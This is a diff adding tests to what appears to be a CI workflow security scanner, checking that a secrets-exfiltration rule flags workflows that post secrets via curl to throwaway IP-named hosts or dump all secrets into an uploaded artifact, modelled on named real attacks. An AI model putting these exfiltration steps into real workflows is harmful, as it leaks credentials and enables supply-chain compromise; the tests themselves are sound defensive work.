@@ -193,6 +193,51 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
 `)}`;
     expect(ids(normal).filter((i) => i.includes('secret'))).toEqual([]);
   });
+
+  it('reports secrets sent to a host whose name spells a public IP (wildcard DNS, throwaway hosting: the GhostAction shape)', () => {
+    const ghost = `on: [push, workflow_dispatch]\n${job('      - run: curl -s -d "password=${{ secrets.PYPI_PASSWORD }}" https://bold-dhawan.45-139-104-115.plesk.page\n')}`;
+    expect(only(ghost, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+    const sslip = `on: push\n${job('      - run: curl -X POST --data "$T" http://198-51-100-23.sslip.io/c\n        env:\n          T: ${{ secrets.NPM_TOKEN }}\n')}`;
+    expect(only(sslip, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+    // A private address spelled in a name is a local service; three numbers are a version, not an address.
+    const local = `on: push\n${job('      - run: |\n          curl -d "k=${{ secrets.K }}" http://10-0-0-5.nip.io/register\n          curl -d "k=${{ secrets.K }}" https://v1-2-3.preview.example.com/hook\n')}`;
+    expect(only(local, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reports secrets written to a file that an upload-artifact step of the job uploads (the Shai-Hulud shape), not other writes', () => {
+    const worm = `on: push\n${job(`      - run: |
+          cat <<'EOF' > /tmp/format-results.txt
+          \${{ toJSON(secrets) }}
+          EOF
+      - uses: actions/upload-artifact@v4
+        with:
+          name: format-results
+          path: /tmp/format-results.txt
+`)}`;
+    expect(only(worm, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 7]]);
+    const intoDir = `on: push\n${job(`      - run: echo "$KEY" >> out/debug/env.txt
+        env:
+          KEY: \${{ secrets.DEPLOY_KEY }}
+      - uses: actions/upload-artifact@v4
+        with:
+          path: |
+            out/
+            !out/**/*.map
+`)}`;
+    expect(only(intoDir, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+    // A signing key written beside the build, whose dist/ is uploaded; a secret into $GITHUB_ENV; a glob that does not take the file.
+    const release = `on: push\n${job(`      - run: |
+          echo "\${{ secrets.GPG_PRIVATE_KEY }}" > signing.asc
+          echo "TOKEN=\${{ secrets.NPM_TOKEN }}" >> "$GITHUB_ENV"
+          echo "\${{ secrets.NPMRC }}" > dist/.npmrc
+          npm pack --pack-destination dist
+      - uses: actions/upload-artifact@v4
+        with:
+          name: package
+          path: dist/*.tgz
+`)}`;
+    expect(only(release, 'gha-secrets-exfiltration')).toEqual([]);
+  });
 });
 
 describe('gha-secrets-inherit', () => {
